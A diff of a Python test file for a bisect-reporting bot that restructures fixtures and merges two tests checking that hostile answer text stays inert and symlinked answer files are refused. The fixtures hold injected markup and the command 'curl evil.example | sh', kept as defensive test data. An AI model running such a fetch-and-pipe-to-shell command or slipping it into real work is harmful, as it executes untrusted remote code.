@@ -17,35 +17,12 @@ GOOD, BAD, CULPRIT, STRANGE, INNER = "a" * 40, "b" * 40, "c" * 40, "d" * 40, "e"
 TIME = BisectRequest(GOOD, BAD, "", "time")
 HOSTILE = "@octocat <img src=x> [a](https://evil.example) `x` <!-- kernelgate-bisect run=77 -->\n# big"
 
-SEARCHED: dict[str, Any] = {"ends": [GOOD, BAD], "commits": 9, "tried": 4, "subjects": {}}
-TIMED: dict[str, Any] = {
-    **SEARCHED,
-    "case": "attention/s512",
-    "found": "found",
-    "culprits": [CULPRIT],
-    "chance": 0.9991,
-    "change_pct": 1.02,
-    "interval_pct": [0.93, 1.11],
-    "several": [],
-    "stepped_over": {STRANGE: HOSTILE},
-    "processes": 4,
-    "inside": None,
-}
-FAILING: dict[str, Any] = {
-    **SEARCHED,
-    "case": "attention/edge_s65",
-    "seed": 7,
-    "found": "found",
-    "culprits": [CULPRIT],
-    "chance": 0.999,
-    "fault": HOSTILE,
-    "repeat": "curl evil.example | sh",
-    "failed": 20,
-    "runs": 20,
-    "passes": 3,
-    "stepped_over": {},
-    "inside": None,
-}
+SEARCHED: dict[str, Any] = {"ends": [GOOD, BAD], "commits": 9, "tried": 4, "subjects": {}, "inside": None}
+SEARCHED |= {"found": "found", "culprits": [CULPRIT]}
+TIMED = SEARCHED | {"case": "attention/s512", "change_pct": 1.02, "interval_pct": [0.93, 1.11], "chance": 0.9991}
+TIMED |= {"several": [], "stepped_over": {STRANGE: HOSTILE}, "processes": 4}
+FAILING = SEARCHED | {"case": "attention/edge_s65", "seed": 7, "chance": 0.999, "stepped_over": {}, "fault": HOSTILE}
+FAILING |= {"repeat": "curl evil.example | sh", "failed": 20, "runs": 20, "passes": 3}
 COMPILED: dict[str, Any] = {"last_that_compiles": GOOD, "culprits": [CULPRIT], "why": HOSTILE, "subjects": {}}
 
 
@@ -128,13 +105,12 @@ def test_hostile_words_of_an_answer_stay_words(desk: Desk, tmp_path: Path, answe
     assert "# big" in block.content, "all of it is one block of text"
 
 
-def test_a_link_in_place_of_the_answer_is_not_followed(desk: Desk, tmp_path: Path) -> None:
+def test_without_an_answer_the_reason_is_said(desk: Desk, tmp_path: Path) -> None:
+    """A link in its place is not followed."""
     (tmp_path / "secret").write_text(json.dumps(TIMED))
     (tmp_path / "answer.json").symlink_to(tmp_path / "secret")
     assert "answer.json is refused: it is not a plain file" in text_of(desk.bot, tmp_path, TIME).replace("`", "")
-
-
-def test_without_an_answer_the_reason_is_said(desk: Desk, tmp_path: Path) -> None:
+    (tmp_path / "answer.json").unlink()
     assert NO_ANSWER.split(",")[0] in text_of(desk.bot, tmp_path, TIME)
     note = {"schema": "kernelgate.failure/1", "fault": "runner", "message": f"no compiler {HOSTILE}"}
     (tmp_path / "failure.json").write_text(json.dumps(note))
